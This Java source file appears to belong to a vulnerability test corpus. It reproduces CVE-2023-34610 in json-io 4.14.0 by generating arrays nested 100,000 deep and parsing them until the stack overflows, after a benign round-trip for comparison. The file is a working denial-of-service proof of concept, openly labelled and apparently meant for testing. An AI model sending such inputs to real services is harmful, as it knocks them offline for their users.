package corpus.jsonio;

import com.cedarsoftware.util.io.JsonReader;
import com.cedarsoftware.util.io.JsonWriter;
import corpus.CorpusDriver;

import java.util.Map;

/**
 * json-io 4.14.0, CVE-2023-34610: arrays nested without limit make {@code JsonParser#readValue} and
 * {@code #readArray} recurse until the stack runs out (4.14.1 limits the nesting).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("[", "1", "]", depth);
        Map<String, Object> maps = Map.of(JsonReader.USE_MAPS, true);
        CorpusDriver.run("jsonio", JsonReader.class,
                () -> JsonWriter.objectToJson(JsonReader.jsonToJava("{\"name\":\"benign\",\"items\":[1,[2,[3]]],\"map\":{\"a\":\"b\"}}", maps)),
                () -> JsonReader.jsonToJava(hostile, maps));
    }
}
